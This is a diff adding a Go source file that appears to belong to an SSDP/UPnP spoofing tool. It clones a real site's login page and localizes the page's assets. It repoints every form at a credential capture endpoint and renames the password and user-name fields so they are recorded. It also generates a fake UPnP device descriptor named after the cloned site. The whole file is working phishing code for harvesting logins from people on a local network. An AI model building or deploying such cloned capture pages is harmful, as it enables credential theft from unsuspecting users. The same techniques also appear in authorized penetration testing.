@@ -0,0 +1,283 @@
+package template
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"os"
+	"path"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"time"
+
+	"golang.org/x/net/html"
+)
+
+// CaptureEndpoint is the path the server records submitted credentials on
+const CaptureEndpoint = "/ssdp/do_login.html"
+
+// cloneUserAgent is sent when fetching pages so sites serve their browser markup
+const cloneUserAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
+
+// genericDeviceXML is the device descriptor written for cloned templates
+const genericDeviceXML = `<?xml version="1.0"?>
+<root xmlns="urn:schemas-upnp-org:device-1-0">
+  <specVersion>
+    <major>1</major>
+    <minor>0</minor>
+  </specVersion>
+  <URLBase>http://$local_ip:$local_port</URLBase>
+  <device>
+    <presentationURL>http://$local_ip:$local_port/present.html</presentationURL>
+    <deviceType>urn:schemas-upnp-org:device:Basic:1</deviceType>
+    <friendlyName>%s</friendlyName>
+    <modelDescription>%s</modelDescription>
+    <manufacturer>%s</manufacturer>
+    <modelName>%s</modelName>
+    <UDN>$session_usn</UDN>
+    <serviceList>
+      <service>
+        <serviceType>urn:schemas-upnp-org:device:Basic:1</serviceType>
+        <serviceId>urn:schemas-upnp-org:device:Basic</serviceId>
+        <controlURL>/ssdp/service-desc.xml</controlURL>
+        <eventSubURL>/ssdp/service-desc.xml</eventSubURL>
+        <SCPDURL>/ssdp/service-desc.xml</SCPDURL>
+      </service>
+    </serviceList>
+  </device>
+</root>
+`
+
+// CloneOptions controls how a login page is turned into a template
+type CloneOptions struct {
+	Name         string        // template name
+	TemplatesDir string        // directory the template is written into
+	Timeout      time.Duration // per-request fetch timeout
+}
+
+// templateNameChars matches characters not allowed in a template name
+var templateNameChars = regexp.MustCompile(`[^a-zA-Z0-9._-]`)
+
+// TemplateNameFromURL derives a template name from the host of pageURL
+func TemplateNameFromURL(pageURL string) string {
+	u, err := url.Parse(pageURL)
+	if err != nil || u.Hostname() == "" {
+		return "cloned"
+	}
+	return templateNameChars.ReplaceAllString(u.Hostname(), "-")
+}
+
+// Clone fetches the login page at pageURL and writes a ready-to-use template
+// to TemplatesDir/Name. Stylesheets, scripts and images are downloaded into
+// the template's own assets directory and relinked, forms are pointed at the capture
+// endpoint, and a generic device.xml is generated from the page title.
+func Clone(pageURL string, opts CloneOptions) error {
+	if opts.Timeout == 0 {
+		opts.Timeout = 30 * time.Second
+	}
+	client := &http.Client{Timeout: opts.Timeout}
+
+	base, err := url.Parse(pageURL)
+	if err != nil {
+		return fmt.Errorf("invalid URL %s: %w", pageURL, err)
+	}
+
+	body, finalURL, err := fetch(client, base.String())
+	if err != nil {
+		return err
+	}
+
+	doc, err := html.Parse(bytes.NewReader(body))
+	if err != nil {
+		return fmt.Errorf("failed to parse %s: %w", pageURL, err)
+	}
+
+	templateDir := filepath.Join(opts.TemplatesDir, opts.Name)
+	assetsDir := filepath.Join(templateDir, "assets")
+	if err := os.MkdirAll(templateDir, 0755); err != nil {
+		return fmt.Errorf("failed to create template directory: %w", err)
+	}
+
+	c := &cloner{
+		client:    client,
+		base:      finalURL,
+		assetsDir: assetsDir,
+		localized: make(map[string]string),
+	}
+	c.walk(doc)
+
+	var page bytes.Buffer
+	if err := html.Render(&page, doc); err != nil {
+		return fmt.Errorf("failed to render cloned page: %w", err)
+	}
+
+	if err := os.WriteFile(filepath.Join(templateDir, "present.html"), []byte(escapeTemplate(page.String())), 0644); err != nil {
+		return fmt.Errorf("failed to write present.html: %w", err)
+	}
+
+	title := c.title
+	if title == "" {
+		title = finalURL.Hostname()
+	}
+	title = html.EscapeString(title)
+	deviceXML := fmt.Sprintf(genericDeviceXML, title, title, html.EscapeString(finalURL.Hostname()), title)
+	if err := os.WriteFile(filepath.Join(templateDir, "device.xml"), []byte(deviceXML), 0644); err != nil {
+		return fmt.Errorf("failed to write device.xml: %w", err)
+	}
+
+	manifest := fmt.Sprintf("description: %q\n", "Login page cloned from "+pageURL)
+	if err := os.WriteFile(filepath.Join(templateDir, ManifestFile), []byte(manifest), 0644); err != nil {
+		return fmt.Errorf("failed to write %s: %w", ManifestFile, err)
+	}
+
+	return nil
+}
+
+// cloner walks a parsed page, localizing assets and rewriting forms
+type cloner struct {
+	client    *http.Client
+	base      *url.URL
+	assetsDir string
+	localized map[string]string
+	title     string
+	sawUser   bool
+}
+
+// walk rewrites n and its children in place
+func (c *cloner) walk(n *html.Node) {
+	if n.Type == html.ElementNode {
+		switch n.Data {
+		case "title":
+			if n.FirstChild != nil && c.title == "" {
+				c.title = strings.TrimSpace(n.FirstChild.Data)
+			}
+		case "link":
+			rel := strings.ToLower(attr(n, "rel"))
+			if strings.Contains(rel, "stylesheet") || strings.Contains(rel, "icon") {
+				c.localizeAttr(n, "href")
+			}
+		case "script", "img", "source":
+			c.localizeAttr(n, "src")
+		case "form":
+			setAttr(n, "action", CaptureEndpoint)
+			setAttr(n, "method", "POST")
+		case "input":
+			c.renameInput(n)
+		}
+	}
+
+	for child := n.FirstChild; child != nil; child = child.NextSibling {
+		c.walk(child)
+	}
+}
+
+// renameInput gives password and the first user-name-like input the field
+// names the capture endpoint records
+func (c *cloner) renameInput(n *html.Node) {
+	switch strings.ToLower(attr(n, "type")) {
+	case "password":
+		setAttr(n, "name", "password")
+	case "", "text", "email":
+		if !c.sawUser {
+			c.sawUser = true
+			setAttr(n, "name", "username")
+		}
+	}
+}
+
+// localizeAttr downloads the resource referenced by key and points key at
+// the local copy. Resources that fail to download are left untouched.
+func (c *cloner) localizeAttr(n *html.Node, key string) {
+	ref := attr(n, key)
+	if ref == "" || strings.HasPrefix(ref, "data:") {
+		return
+	}
+
+	u, err := c.base.Parse(ref)
+	if err != nil || (u.Scheme != "http" && u.Scheme != "https") {
+		return
+	}
+
+	if local, ok := c.localized[u.String()]; ok {
+		setAttr(n, key, local)
+		return
+	}
+
+	content, _, err := fetch(c.client, u.String())
+	if err != nil {
+		return
+	}
+
+	filename := path.Base(u.Path)
+	if filename == "" || filename == "/" || filename == "." {
+		filename = "asset"
+	}
+	filename = fmt.Sprintf("%d-%s", len(c.localized), templateNameChars.ReplaceAllString(filename, "_"))
+
+	if err := os.MkdirAll(c.assetsDir, 0755); err != nil {
+		return
+	}
+	if err := os.WriteFile(filepath.Join(c.assetsDir, filename), content, 0644); err != nil {
+		return
+	}
+
+	local := "/assets/" + filename
+	c.localized[u.String()] = local
+	setAttr(n, key, local)
+}
+
+// fetch downloads target and returns its body and the URL after redirects
+func fetch(client *http.Client, target string) ([]byte, *url.URL, error) {
+	req, err := http.NewRequest(http.MethodGet, target, nil)
+	if err != nil {
+		return nil, nil, fmt.Errorf("invalid URL %s: %w", target, err)
+	}
+	req.Header.Set("User-Agent", cloneUserAgent)
+
+	resp, err := client.Do(req)
+	if err != nil {
+		return nil, nil, fmt.Errorf("failed to fetch %s: %w", target, err)
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK {
+		return nil, nil, fmt.Errorf("failed to fetch %s: %s", target, resp.Status)
+	}
+
+	body, err := io.ReadAll(resp.Body)
+	if err != nil {
+		return nil, nil, fmt.Errorf("failed to read %s: %w", target, err)
+	}
+	return body, resp.Request.URL, nil
+}
+
+// attr returns the value of the attribute key on n
+func attr(n *html.Node, key string) string {
+	for _, a := range n.Attr {
+		if strings.EqualFold(a.Key, key) {
+			return a.Val
+		}
+	}
+	return ""
+}
+
+// setAttr sets the attribute key on n, adding it if missing
+func setAttr(n *html.Node, key, value string) {
+	for i, a := range n.Attr {
+		if strings.EqualFold(a.Key, key) {
+			n.Attr[i].Val = value
+			return
+		}
+	}
+	n.Attr = append(n.Attr, html.Attribute{Key: key, Val: value})
+}
+
+// escapeTemplate protects literal "$" and "{{" in cloned markup from the
+// template variable conversion and Go template parsing in processTemplate
+func escapeTemplate(content string) string {
+	content = strings.ReplaceAll(content, "$", "$$")
+	return strings.ReplaceAll(content, "{{", `{{"{{"}}`)
+}